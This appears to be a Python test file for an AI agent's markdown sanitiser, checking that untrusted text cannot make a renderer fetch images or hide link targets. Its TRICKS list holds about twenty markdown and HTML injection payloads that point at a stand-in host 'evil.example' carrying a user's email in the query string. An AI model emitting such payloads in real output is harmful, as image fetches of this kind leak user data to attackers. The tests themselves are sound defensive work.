"""What a model or a stranger wrote, handed on: nothing is fetched by it, and a link shows where it leads."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.common.markdown import harmless, quoted

EVIL = "http://evil.example/p.png?d=ada@example.com"
TRICKS = [
    f"![]({EVIL})",
    f"![a chart](<{EVIL}> 'title')",
    f"[![x]({EVIL})]({EVIL})",
    f"![x][ref]\n\n[ref]: {EVIL}",
    f"[ref]\n\n > [ref]: {EVIL}",
    f"[a\\]b]({EVIL})",
    f"[over two\nlines]({EVIL})",
    f"![over two\nlines]({EVIL})",
    f"<img src='{EVIL}'>",
    f"<IMG\nsrc='{EVIL}'>",
    f"a <svg/onload=x> b <!-- c --> <style>@import '{EVIL}'</style>",
    f"[app.puffle.ai]({EVIL} (nested) )",
    f"![[x]]({EVIL})",
    f"![a](\n{EVIL}\n)",
    f"[https://app.puffle.ai][r]\n\n- [r]: {EVIL}",
    f"[https://app.puffle.ai][r]\n\n1. > [r]:\n{EVIL}",
    f"[https://app.puffle.ai][a b]\n\n[a\nb]: {EVIL}",
    f"[https://app.puffle.ai][a b]\n\n* [a\n  b]: {EVIL} 'title'",
    f"![x][a b]\n\n[a\nb]: {EVIL}",
    f"[r]\n\n+\t[r]: {EVIL}",
]
PIECES = (
    "[",
    "]",
    "(",
    ")",
    ":",
    "!",
    "<",
    ">",
    "\\",
    "`",
    "\n",
    "\n\n",
    "- ",
    "> ",
    "1. ",
    "    ",
    "\t",
    " ",
    "r",
    "*",
)


@pytest.mark.parametrize("text", TRICKS)
def test_nothing_that_renders_it_fetches_an_image_or_hides_a_host(text: str) -> None:
    rendered = MarkdownIt("commonmark", {"html": True}).render(harmless(text))
    assert not [sign for sign in ("<img", "<a ", "<svg", "<style", "<!--") if sign in rendered.lower()]
    assert harmless(harmless(text)) == harmless(text)


@given(st.lists(st.sampled_from([*PIECES, "[r]: ", "[a][r]", EVIL])).map("".join))
def test_however_the_signs_of_markdown_stand_no_link_but_a_plain_address_comes_of_them(text: str) -> None:
    blocks = MarkdownIt("commonmark").parse(harmless(text))
    tokens = [token for block in blocks for token in block.children or ()]
    assert not [token for token in tokens if token.type == "image"]
    assert all(token.markup == "autolink" for token in tokens if token.type == "link_open")


def test_an_image_is_named_with_its_host_and_a_link_with_its_address() -> None:
    assert harmless(f"See ![a chart]({EVIL}).") == "See (image: a chart, from evil.example)."
    assert harmless("![](http://[)") == "(image: without words, from an address without a host)"
    assert harmless(f"[app.puffle.ai]({EVIL})") == f"app.puffle.ai ({EVIL})"


@pytest.mark.parametrize(
    "text",
    [
        "Hello Ada,\n\n- one\n- two **bold**",
        "https://app.puffle.ai/x?y=1",
        "1 < 2 and 3 > 2",
        "<https://app.puffle.ai> <ada@example.com>",
        "list[0]",
    ],
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("text", [*TRICKS, "# Run r1\n\n## Record\n\n    sent to nobody", "Title\n=====", "```\n# x"])
def test_a_quotation_makes_no_heading_no_link_and_no_image(text: str) -> None:
    document = f"# Run\n\n- a list\n\n{quoted(text)}\n\n## Record\n"
    rendered = MarkdownIt("commonmark", {"html": True}).render(document)
    assert (rendered.count("<h1>"), rendered.count("<h2>")) == (1, 1)
    assert not [sign for sign in ("<img", "<a ", "<svg") if sign in rendered.lower()]
